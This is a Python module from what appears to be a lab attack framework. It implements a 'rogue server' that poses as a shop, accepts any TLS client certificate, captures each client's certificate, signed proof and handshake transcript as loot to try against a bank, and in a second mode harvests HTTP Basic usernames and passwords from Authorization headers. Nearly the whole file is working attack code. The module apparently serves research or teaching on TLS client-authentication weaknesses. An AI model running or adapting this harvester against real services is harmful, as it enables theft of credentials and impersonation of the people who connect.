"""The leak `rogue-server`: a shop that alice uses and properly verifies keeps what she presents when she logs in.

Its TLS is correct: in TLS 1.2 and 1.3 it requires the client's proof and checks it, as the RFCs say. It accepts any
certificate, as a shop accepts any customer. So it has a certificate and a proof of each customer, and its administrator
tries both at the bank.
"""

import asyncio
import json
import os
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import h11

from attacker.call import Call, LeakCommand, Parser, add_gateways, parse_listen, read_bundle
from attacker.campaign import Campaign
from attacker.collected import Sighting, common_name
from attacker.moves.make import Loot
from attacker.passwords import FoundPassword, basic_password
from attacker.position.tcp_relay import listen_at
from attacker.scope import check_listen
from lab.address import Address, host_port
from lab.catalogue.leaks import ROGUE_SERVER
from lab.events.log import Reporter
from lab.events.types import PositionLeft, PositionTaken, Trouble
from lab.tls.bundle import Bundle
from lab.tls.connection import ChangeCipherSpec, Step
from lab.tls.errors import TlsError
from lab.tls.listener import Listener, RationedReader, say_goodbye
from lab.tls.messages import Certificate, CertificateVerify, ClientHello, ServerHello
from lab.tls.messages13 import parse
from lab.tls.server import ClientAuth, Proof, Server
from lab.tls.streams import TlsStream
from lab.tls.versions import TLS12, TLS13, version_name

GRACE_SECONDS = 3.0


@dataclass(frozen=True)
class ShopLimits:
    """The most connections at once, and the most time and bytes of each."""

    connections: int = 64
    seconds: float = 10.0
    linger_seconds: float = 1.0
    octets: int = 1 << 16


async def run(call: Call) -> None:
    """Serves customers until there is loot for every gateway, and a little longer for proofs in all versions.

    OutOfScope or AttackerError if it cannot listen.
    """
    asked = call.arguments
    listen, bundle = parse_listen(asked.listen), read_bundle(asked.shop_bundle)
    for_passwords = parse_listen(asked.password_listen) if asked.password_listen else None
    campaign = call.begin(ROGUE_SERVER)
    await run_shop(listen, bundle, campaign, call.reporter, for_passwords)
    await campaign.use()


async def run_shop(
    listen: Address, bundle: Bundle, campaign: Campaign, reporter: Reporter, for_passwords: Address | None = None
) -> None:
    """Serves as the shop until the campaign has what it needs; at `for_passwords` to customers without certificates."""
    shop = Shop(bundle, campaign, reporter)
    address = await shop.open(listen)
    no_certificates = Shop(bundle, campaign, reporter, asks_for_certificate=False)
    try:
        if for_passwords:
            await no_certificates.open(for_passwords)
        where = f"{common_name(bundle.chain[0])}, a shop at {address}"
        detail = f"{where}, which accepts any certificate and checks its proof"
        reporter.report(PositionTaken(ROGUE_SERVER.id, (detail,)))
        await campaign.complete()
        with suppress(TimeoutError):
            async with asyncio.timeout(GRACE_SECONDS):
                await campaign.complete(in_every_version=True)
                if for_passwords:
                    await campaign.password_found()
    finally:
        await shop.close()
        await no_certificates.close()
    reporter.report(PositionLeft(ROGUE_SERVER.id, ()))


class Shop:
    """The shop's server. `bundle` is its own; the campaign takes what its clients present.

    A shop that does not ask for certificates takes names and passwords (RFC 7617).
    """

    def __init__(
        self,
        bundle: Bundle,
        campaign: Campaign,
        reporter: Reporter,
        limits: ShopLimits | None = None,
        asks_for_certificate: bool = True,
    ) -> None:
        self._asks_for_certificate = asks_for_certificate
        self._bundle = bundle
        self._campaign = campaign
        self._reporter = reporter
        self._limits = limits or ShopLimits()
        self._listener = Listener(self._serve, self._limits.connections, self._limits.octets)

    async def open(self, address: Address) -> Address:
        """Listens; the address in use. Port 0 is any free one. OutOfScope or AttackerError if that is impossible."""
        listening = listen_at(check_listen(*address))
        await self._listener.open(listening)
        return Address(*listening.getsockname()[:2])

    async def close(self) -> None:
        """Stops, and breaks off all connections."""
        await self._listener.close()

    async def _serve(self, reader: RationedReader, writer: asyncio.StreamWriter) -> None:
        """One connection. The client gets its answer first, then the campaign gets the loot."""
        engine = self._engine()
        try:
            client, server = (host_port(writer.get_extra_info(name)) for name in ("peername", "sockname"))
            if await self._talk(engine, reader, writer, server) and self._asks_for_certificate:
                self._campaign.take(*loot_of(engine, client, server))
        except Exception as error:
            self._reporter.report(Trouble(f"the shop, with a client: {type(error).__name__}: {error}"))

    async def _talk(self, engine: Server, reader: RationedReader, writer: asyncio.StreamWriter, server: str) -> bool:
        """A handshake, a request, an answer. Returns whether the handshake was completed, whatever the client does."""
        complete = False
        with suppress(TlsError, h11.ProtocolError, OSError, TimeoutError):
            async with asyncio.timeout(self._limits.seconds):
                stream = TlsStream(engine, reader, writer)
                try:
                    await stream.handshake()
                    complete = True
                    request = await _request(stream)
                    if request and self._asks_for_certificate:
                        await _answer(stream, request, common_name(engine.peer_chain[0]))
                    elif request and (found := password_in(request, server, version_name(engine.version or TLS12))):
                        await _answer(stream, request, found.name)
                        self._campaign.take_password(found)
                finally:
                    with suppress(TimeoutError):
                        await say_goodbye(engine, reader, writer, self._limits.linger_seconds)
        return complete

    def _engine(self) -> Server:
        return Server(
            entropy=os.urandom,
            chain=self._bundle.chain,
            key=self._bundle.key,
            client_auth=ClientAuth(_any_customer, Proof.REQUIRED) if self._asks_for_certificate else None,
            versions=(TLS13, TLS12),
        )


def loot_of(engine: Server, client: str, server: str) -> tuple[Loot, Sighting]:
    """What a complete handshake gave: the client's certificates, its proof, and the transcript that the proof signs."""
    version = engine.version or TLS12
    messages = [
        step for step in engine.steps if step.name != ChangeCipherSpec.name and not step.name.startswith("alert")
    ]
    at = next(number for number, step in enumerate(messages) if _is(step, "client", CertificateVerify.type))
    hello = next(parse(step.raw, version) for step in messages if _is(step, "client", ClientHello.type))
    answered = [parse(step.raw, version) for step in messages if _is(step, "server", ServerHello.type)][
        -1
    ]  # not a retry
    answer = parse(messages[at].raw, version)
    assert isinstance(hello, ClientHello)
    assert isinstance(answered, ServerHello)
    assert isinstance(answer, CertificateVerify)
    sight = Sighting(
        client=client,
        server=server,
        tls=version_name(version),
        message=next(step.raw for step in messages if _is(step, "client", Certificate.type)),
        proof=answer,
        transcript=tuple(step.raw for step in messages[:at]),
        client_random=hello.random,
        server_random=answered.random,
    )
    return Loot(engine.peer_chain, answer, hello=hello), sight


def _is(step: Step, sender: str, kind: int) -> bool:
    return (step.sender, step.raw[0]) == (sender, kind)


def _any_customer(chain: tuple[bytes, ...]) -> None:
    """Accepts every chain: to the shop a certificate is only a customer's name."""


def password_in(request: h11.Request, seen_at: str, tls: str) -> FoundPassword | None:
    """Name and password in a request's Authorization header (RFC 7617); None if it has none."""
    for name, value in request.headers:
        if name == b"authorization":
            return basic_password(value.decode("latin-1"), seen_at, tls)
    return None


async def _request(stream: TlsStream) -> h11.Request | None:
    """Reads one request, the only one of its connection; None if the client closes instead. h11.ProtocolError if it is
    none."""
    http = h11.Connection(h11.SERVER)
    request: h11.Request | None = None
    while not isinstance(event := http.next_event(), h11.EndOfMessage):
        if event is h11.NEED_DATA:
            http.receive_data(await stream.read())
        elif isinstance(event, h11.Request):
            request = event
        elif isinstance(event, h11.ConnectionClosed):
            return None
    return request


async def _answer(stream: TlsStream, request: h11.Request, customer: str) -> None:
    """Answers a request, and ends the connection with it."""
    known = (request.method, request.target) == (b"GET", b"/account")
    body = json.dumps({"customer": customer, "balance": 0} if known else {"error": "there is no such page"}).encode()
    status = b"HTTP/1.1 200 OK" if known else b"HTTP/1.1 404 Not Found"
    headers = (b"Content-Type: application/json", b"Content-Length: %d" % len(body), b"Connection: close")
    await stream.write(b"\r\n".join((status, *headers, b"", b"")) + body)


def _add_arguments(parser: Parser) -> None:
    add_gateways(parser)
    parser.add_argument("--listen", required=True, metavar="HOST:PORT", help="where the shop is")
    parser.add_argument("--password-listen", metavar="HOST:PORT", help="where it takes passwords, if it does")
    parser.add_argument("--shop-bundle", type=Path, required=True, help="the shop's own, PEM")


COMMAND = LeakCommand(ROGUE_SERVER.how, _add_arguments, run)
